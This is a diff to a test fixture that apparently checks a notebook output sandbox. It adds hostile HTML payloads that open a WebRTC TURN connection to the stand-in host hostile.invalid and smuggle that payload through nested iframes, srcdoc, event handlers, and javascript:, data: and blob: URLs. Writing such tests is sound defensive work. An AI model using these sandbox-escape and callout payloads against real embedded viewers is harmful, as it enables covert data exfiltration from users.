@@ -13,6 +13,7 @@ internal static class HostileOutputs
         import json, sys
         JS = "window.hostile=1;try{top.hostile=1}catch(e){};try{parent.hostile=1}catch(e){}"
         OUT = "http://hostile.invalid/x"
+        CALL = "try{const c=new RTCPeerConnection({iceServers:[{urls:'turn:hostile.invalid?transport=tcp',username:'stolen',credential:'x'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}catch(e){}"
         def show(**bundle): display({key.replace("__", "/").replace("_", "+"): value for key, value in bundle.items()}, raw=True)
         def html(text): display({"text/html": text}, raw=True)
         """;
@@ -58,6 +59,14 @@ internal static class HostileOutputs
         ("a frame that opens windows", """html(f'<script>try{{open("{OUT}")}}catch(e){{}};try{{alert(1);confirm(1);prompt(1);print()}}catch(e){{}}</script>')"""),
         ("a frame that clicks", """html(f'<a id=a href="{OUT}" target=_blank>x</a><a id=b href="{OUT}" download>x</a><form id=f action="{OUT}" target=_blank></form><script>a.click();b.click();f.submit()</script>')"""),
         ("a frame in a frame", """html(f'<iframe src="{OUT}"></iframe><iframe srcdoc="<script>{JS}</script>"></iframe><object data="{OUT}"></object><embed src="{OUT}">')"""),
+        ("a frame that calls out", """html(f'<script>{CALL}</script>')"""),
+        ("a frame in a frame that calls out", """html('<script>1</script><iframe srcdoc="' + f'<script>{CALL}</script>'.replace('"', '&quot;') + '"></iframe>')"""),
+        ("a frame of a script that calls out", """html('<script>const f=document.createElement("iframe");f.srcdoc=' + json.dumps(f'<script>{CALL}</script>').replace('</', '<\\/') + ';document.body.append(f)</script>')"""),
+        ("a frame that repeats the script that made it", """html(f'<script>{CALL};if(parent===top){{const f=document.createElement("iframe");f.srcdoc=document.currentScript.outerHTML;document.body.append(f)}}</script>')"""),
+        ("a handler in a frame that calls out", """html('<script>1</script><iframe srcdoc="' + f'<img src=x onerror="{CALL}">'.replace('&', '&amp;').replace('"', '&quot;') + '"></iframe>')"""),
+        ("an address that calls out", """html('<script>const f=document.createElement("iframe");f.src="javascript:"+encodeURIComponent(' + json.dumps(CALL) + ');document.body.append(f)</script>')"""),
+        ("a frame that becomes one that calls out", """html('<script>location="data:text/html,"+encodeURIComponent(' + json.dumps(f'<script>{CALL}</script>').replace('</', '<\\/') + ')</script>')"""),
+        ("a frame that becomes a blob that calls out", """html('<script>location=URL.createObjectURL(new Blob([' + json.dumps(f'<script>{CALL}</script>').replace('</', '<\\/') + '],{type:"text/html"}))</script>')"""),
         ("forged messages", """html('<script>for(const m of [{ready:true},{height:1e9},{height:-5},{height:"1px"},{height:NaN},null,"x",{content:{kind:"html",html:"<b>x</b>"}},{theme:"x"}])parent.postMessage(m,"*")</script>')"""),
         ("a flood of messages", """html('<script>setInterval(()=>{for(let i=0;i<500;i++)parent.postMessage({height:100+i%2*50},"*")},1)</script>')"""),
         ("a worker", """html(f'<script>try{{new Worker(URL.createObjectURL(new Blob(["fetch(\\"{OUT}\\")"])))}}catch(e){{}}</script>')"""),
